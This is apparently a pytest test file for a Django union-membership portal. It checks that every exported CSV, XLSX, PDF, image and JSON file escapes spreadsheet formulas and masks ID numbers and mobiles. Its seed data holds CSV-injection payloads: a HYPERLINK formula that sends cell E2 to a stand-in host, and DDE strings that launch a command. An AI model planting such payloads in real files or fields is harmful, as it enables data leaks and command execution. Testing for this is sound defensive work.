"""Every file the portal writes (csv, xlsx, PDF, images, JSON) is safe to open and masked.

Members whose name and employer are spreadsheet formula payloads (OWASP CSV injection),
with known ID numbers and mobiles, are put on the roll directly and through an import
(so they also reach the import report and the error workbook). Then every file route in
FILE_ROUTES is downloaded and checked:

- no csv or xlsx cell begins with a formula trigger (= + - @ tab CR) unescaped, and no
  xlsx cell is a formula (openpyxl data_type "f");
- full ID numbers and mobiles appear only in the routes marked full (the audited full
  export, and the worker's own data).

`test_every_file_route_is_in_the_table` fails when a URL whose name or route looks like a
file (export, download, pdf, xlsx, csv, report, template, qr…) is not in FILE_ROUTES, so a
new file route cannot be missed. Files made outside a URL (the monthly report) are in
SERVICE_FILES.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass, field

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from core.documents import FORMULA_TRIGGERS
from members import services as member_services
from members.models import ImportJob, JoinApplication, Member
from tests.factories import make_id_number, make_member, nth_name

PAYLOAD_NAMES = ['=HYPERLINK("http://x.example/"&E2,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0"]
PAYLOAD_EMPLOYERS = ["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
SEEDED_IDS = [make_id_number(region="310115") for _ in range(4)]
SEEDED_MOBILES = ["13811110001", "13811110002", "13811110003", "13811110004"]
WORKER_MOBILE = "13700005678"


@dataclass(frozen=True)
class Route:
    """One file the portal hands out: URL name, who asks, how, and what it must hold."""

    name: str
    kind: str  # csv, xlsx, pdf, png, svg, json
    actor: str = "owner"
    params: dict = field(default_factory=dict)
    method: str = "get"
    pk: str = ""  # which seeded object the URL names: "job", "code"
    full: bool = False  # the audited full-value route: full ID numbers/mobiles are its purpose
    api: bool = False


FILE_ROUTES = [
    Route("member-export", "csv", params={"format": "csv"}),
    Route("member-export", "xlsx", params={"format": "xlsx"}),
    Route("member-export", "csv", actor="clerk", params={"format": "csv", "full": "1"}),  # clerk: no full right
    Route("member-export", "xlsx", params={"format": "xlsx", "full": "1"}, full=True),
    Route("api:member-export", "csv", params={"export_format": "csv"}, api=True),
    Route("api:member-export", "xlsx", params={"export_format": "xlsx"}, api=True),
    Route("api:member-export", "csv", params={"export_format": "csv", "full": "true"}, api=True, full=True),
    Route("member-import-template", "xlsx", params={"format": "xlsx"}),
    Route("member-import-template", "csv", params={"format": "csv"}),
    Route("api:member-import-template", "xlsx", params={"export_format": "xlsx"}, api=True),
    Route("api:member-import-template", "csv", params={"export_format": "csv"}, api=True),
    Route("member-import-report", "csv", pk="job"),
    Route("member-import-errors", "xlsx", pk="job"),
    Route("api:member-import-report", "csv", pk="job", api=True),
    Route("api:member-import-errors", "xlsx", pk="job", api=True),
    Route("member-join-code-png", "png", pk="code"),
    Route("member-join-code-svg", "svg", pk="code"),
    Route("my-card-pdf", "pdf", actor="member_worker"),
    Route("project-evaluation-pdf", "pdf", pk="evaluation"),
    # The worker's own data, in full, to the worker (data-subject access; audited).
    Route("my-data-export", "json", actor="member_worker", method="post", full=True),
    # The same copy as a PDF for people (issue 15): in full, to the worker alone (audited).
    Route("my-data-pdf", "pdf", actor="member_worker", method="post", full=True),
    # The mediation agreement: names and claims, never the applicants' ID numbers.
    Route("dispute-agreement-pdf", "pdf", pk="dispute_case"),
    Route("api:dispute-case-agreement-pdf", "pdf", pk="dispute_case", api=True),
    Route("aid-campaign-sheet", "pdf", pk="campaign"),
    Route("api:aid-campaign-sheet", "pdf", pk="campaign", api=True),
    # A subtree's monthly report (organisation names and counts; never a person's numbers).
    Route("report-run-xlsx", "xlsx", pk="report_run"),
    Route("report-run-pdf", "pdf", pk="report_run"),
    Route("api:report-run-xlsx", "xlsx", pk="report_run", api=True),
    Route("api:report-run-pdf", "pdf", pk="report_run", api=True),
]

# Files written without a URL of their own (built by a service, sent or stored elsewhere).
SERVICE_FILES = ["reports.services.monthly_report_build", "reports.files.workbook", "reports.files.pdf"]

# Pages whose route looks like a file's ("reports/…") but that hand out none: the report
# runs' list, progress page and rerun button (their files are report-run-xlsx and
# report-run-pdf) and the statistics dashboards (HTML with charts).
# Routes the pattern below takes for files but that write none (pages under /reports/).
NOT_FILES = {
    "report-runs",
    "report-run-detail",
    "report-run-rerun",
    "stats-dashboard",
    "stats-dashboard-org",
    # The same for the API: the runs' list, one run's progress and its rerun (JSON, no file).
    "api:report-run-list",
    "api:report-run-detail",
    "api:report-run-rerun",
}

# Downloads that hand back a user's uploaded file byte for byte: the portal writes nothing into
# them (their type is checked at upload, and they go out as attachments, nosniff, CSP sandbox;
# tests/core/test_attachments.py), so there is no cell or masking of ours to check.
SERVED_AS_UPLOADED = {"attachment-download", "api:attachment-download"}

# A URL name or route that looks like a file download.
FILE_LIKE = re.compile(r"export|download|pdf|xlsx|csv|report|errors|template|qr|\.png|\.svg|\.json|card\.", re.I)


def _all_patterns(patterns, prefix="", ns=""):
    for p in patterns:
        if isinstance(p, URLResolver):
            sub_ns = f"{ns}:{p.namespace}" if ns and p.namespace else (p.namespace or ns)
            yield from _all_patterns(p.url_patterns, prefix + str(p.pattern), sub_ns)
        elif isinstance(p, URLPattern):
            name = f"{ns}:{p.name}" if ns and p.name else (p.name or "")
            yield prefix + str(p.pattern), name


def test_every_file_route_is_in_the_table():
    covered = {r.name for r in FILE_ROUTES} | SERVED_AS_UPLOADED | NOT_FILES
    missing = [
        (route, name)
        for route, name in _all_patterns(get_resolver().url_patterns)
        if not route.startswith("admin/") and FILE_LIKE.search(f"{route} {name}") and name not in covered
    ]
    assert not missing, f"file routes not checked by this module (add them to FILE_ROUTES): {missing}"


# --- the seeded roll -------------------------------------------------------------------------


@pytest.fixture
def seeded(tree, owner, django_capture_on_commit_callbacks, tmp_path, settings):
    settings.MEDIA_ROOT = str(tmp_path)
    union = tree["pd_union"]
    for i, name in enumerate(PAYLOAD_NAMES):
        ms = make_member(
            union,
            actor=owner,
            name=nth_name("载荷", i),
            id_number=SEEDED_IDS[i],
            mobile=SEEDED_MOBILES[i],
            employer_name=PAYLOAD_EMPLOYERS[i],
        )
        # The name rule refuses these now; rows stored before it still hold them.
        Member.objects.filter(pk=ms.member_id).update(name=name)
    # The import: one good row with payloads (created), one bad row with payloads (error).
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["姓名", "身份证号码", "手机号码", "工作单位"])
    # A hyphen may start a real name (and is a formula trigger): the created row carries it.
    w.writerow(["-导入", SEEDED_IDS[2], SEEDED_MOBILES[2], PAYLOAD_EMPLOYERS[0]])
    w.writerow(
        [PAYLOAD_NAMES[1] + "导入", SEEDED_IDS[3][:-1] + ("0" if SEEDED_IDS[3][-1] != "0" else "1"), "1", "=1+1"]
    )
    upload = SimpleUploadedFile("名册.csv", ("\ufeff" + buf.getvalue()).encode("utf-8"))
    from members.importer import import_job_create

    with django_capture_on_commit_callbacks(execute=True):
        job = import_job_create(actor=owner, union=union, uploaded_file=upload, mode="valid_only")
    job.refresh_from_db()
    assert job.status == ImportJob.Status.SUCCEEDED, job.message
    assert (job.created_count, job.error_count) == (1, 1) and job.error_path
    code = member_services.join_code_create(actor=owner, union=union, label='=HYPERLINK("http://x")')
    from tests.projects.machines import evaluated_project

    evaluation = evaluated_project(tree, owner, title=PAYLOAD_NAMES[0])
    return {
        "job": job,
        "code": code,
        "evaluation": evaluation,
        "dispute_case": _dispute_case_with_agreement(tree, owner),
        "campaign": _aid_campaign(tree, owner),
        "report_run": _report_run(tree, owner),
    }


def _report_run(tree, owner):
    """浦东's report of last month, built (the seeded payload members are on its roll)."""
    import datetime as dt

    from django.utils import timezone

    from reports import runs

    last = timezone.localdate().replace(day=1) - dt.timedelta(days=1)
    run = runs.report_request(actor=owner, organization=tree["pudong"], kind="monthly", period=f"{last:%Y-%m}")
    return runs.report_run_execute(run.pk, run.generation)


def _dispute_case_with_agreement(tree, owner):
    """A case whose applicant carries a seeded ID number: the agreement PDF must not print it."""
    from disputes import services as dispute_services

    body = dispute_services.body_create(
        actor=owner, organization=tree["lujiazui"], name="陆家嘴街道劳动争议调解中心", kind="street"
    )
    dispute_services.mediator_add(
        actor=owner, body=body, user=owner, name="调解员", employment="full_time", is_head=True
    )
    case = dispute_services.case_receive(
        actor=owner,
        body=body,
        channel="walk_in",
        kind="wages",
        facts="拖欠工资",
        claims=[{"description": PAYLOAD_NAMES[0], "amount": "1000"}],
        applicants=[{"name": PAYLOAD_NAMES[1], "id_number": SEEDED_IDS[0], "mobile": SEEDED_MOBILES[0]}],
        respondent_name="某公司",
    )
    dispute_services.case_accept(case=case, actor=owner)
    dispute_services.case_assign(case=case, actor=owner)
    dispute_services.agreement_make(case=case, actor=owner, signed_by_applicants=True, signed_by_respondent=True)
    return case


def _aid_campaign(tree, owner):
    """A 送温暖 campaign run over a registered file of a seeded (payload-named) member."""
    from assistance import services as aid
    from tests.assistance.helpers import make_budget, publish_standard, registered

    publish_standard(owner)
    budget = make_budget(owner, tree["pudong"])
    registered(owner, tree["pd_union"], budget, member=Member.objects.get(name=PAYLOAD_NAMES[0]))
    campaign = aid.campaign_create(
        actor=owner, organization=tree["pudong"], kind="warmth", name="=送温暖", budget=budget, amount_per_file="300"
    )
    aid.campaign_start(actor=owner, campaign=campaign)
    return aid.campaign_run(campaign.pk)


@pytest.fixture
def member_worker(tree, owner):
    """A worker account that is a member of the 浦东 union, named with a formula payload."""
    from tests.members.pages_helpers import submit_application

    code = member_services.join_code_create(actor=owner, union=tree["pd_union"])
    app = submit_application(code, name="骑手", mobile=WORKER_MOBILE, password="Rider-pass-2024")
    member_services.join_application_approve(actor=owner, application=JoinApplication.objects.get(pk=app.pk))
    Member.objects.filter(mobile_masked=WORKER_MOBILE[:3] + "****" + WORKER_MOBILE[-4:]).update(name=PAYLOAD_NAMES[1])
    return Member.objects.select_related("user").get(mobile_masked=WORKER_MOBILE[:3] + "****" + WORKER_MOBILE[-4:]).user


# --- reading what came back --------------------------------------------------------------------


def _download(request, route: Route, seeded) -> bytes:
    from rest_framework.test import APIClient

    user = request.getfixturevalue(route.actor)
    args = [seeded[route.pk].pk] if route.pk else []
    url = reverse(route.name, args=args)
    if route.api:
        client = APIClient()
        client.force_authenticate(user=user)
    else:
        from django.test import Client

        client = Client()
        client.force_login(user)
    response = getattr(client, route.method)(url, route.params)
    assert response.status_code == 200, (route, response.status_code)
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells(kind: str, content: bytes) -> list[tuple[str, object, str]]:
    """(where, value, data_type) of every non-empty cell of a csv or xlsx."""
    if kind == "csv":
        text = content.decode("utf-8-sig")
        return [
            (f"r{r}c{c}", v, "s")
            for r, row in enumerate(csv.reader(io.StringIO(text)))
            for c, v in enumerate(row)
            if v != ""
        ]
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (f"{ws.title}!{cell.coordinate}", cell.value, cell.data_type)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _text(kind: str, content: bytes) -> str:
    if kind in ("csv", "xlsx"):
        return "\n".join(str(v) for _w, v, _t in _cells(kind, content))
    if kind == "pdf":
        from pypdf import PdfReader

        return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    if kind == "json":
        return json.dumps(json.loads(content), ensure_ascii=False)
    if kind == "svg":
        return content.decode("utf-8")
    return ""  # png: pixels only


def assert_inert(kind: str, content: bytes) -> None:
    cells = _cells(kind, content)
    formulas = [where for where, _v, t in cells if t == "f"]
    assert not formulas, f"formula cells: {formulas}"
    live = [(where, v) for where, v, _t in cells if isinstance(v, str) and v[:1] in FORMULA_TRIGGERS]
    assert not live, f"cells that a spreadsheet would run: {live}"


def _id_or_mobile_in(text: str) -> list[str]:
    return [v for v in (*SEEDED_IDS[:3], *SEEDED_MOBILES[:3], WORKER_MOBILE) if v in text]


@pytest.mark.parametrize("route", FILE_ROUTES, ids=lambda r: f"{r.name}-{r.kind}-{r.actor}{'-full' if r.full else ''}")
def test_written_files_are_inert_and_masked(request, seeded, owner, clerk, route):
    content = _download(request, route, seeded)
    if route.kind in ("csv", "xlsx"):
        assert_inert(route.kind, content)
    text = _text(route.kind, content)
    if route.full:
        assert _id_or_mobile_in(text), "the full-value route should carry the full values"
    else:
        assert not _id_or_mobile_in(text), "full ID numbers or mobiles in a masked file"


def test_the_payloads_reach_the_exports_escaped_not_dropped(request, seeded, owner):
    route = next(r for r in FILE_ROUTES if r.name == "member-export" and r.kind == "xlsx")
    values = [v for _w, v, _t in _cells("xlsx", _download(request, route, seeded))]
    for payload in PAYLOAD_NAMES + PAYLOAD_EMPLOYERS:
        assert "'" + payload in values
    report = _text("csv", _download(request, Route("member-import-report", "csv", pk="job"), seeded))
    assert "'" + PAYLOAD_NAMES[1] + "导入" in report


def test_the_monthly_report_is_inert(tree, owner, seeded):
    import datetime as dt

    from reports.services import monthly_report_build

    tree["lujiazui"].name = '=HYPERLINK("http://x")'
    tree["lujiazui"].save(update_fields=["name"])
    report = monthly_report_build(actor=owner, organization=tree["pudong"], month=dt.date.today().replace(day=1))
    assert_inert("xlsx", report.xlsx)
    assert not _id_or_mobile_in(_text("xlsx", report.xlsx))


def test_the_report_run_files_are_inert(tree, owner, seeded):
    """Organisation names are user text: a payload name reaches the workbook escaped, the PDF as text."""
    from core.attachments.storage import private_storage
    from reports import runs

    tree["lujiazui"].name = '=HYPERLINK("http://x")'
    tree["lujiazui"].save(update_fields=["name"])
    run = seeded["report_run"]
    run = runs.report_rerun(actor=owner, run=run)
    run = runs.report_run_execute(run.pk, run.generation)
    with private_storage().open(run.xlsx_path, "rb") as fh:
        content = fh.read()
    assert_inert("xlsx", content)
    assert "'" + '=HYPERLINK("http://x")' in [v for _w, v, _t in _cells("xlsx", content)]
    assert not _id_or_mobile_in(_text("xlsx", content))
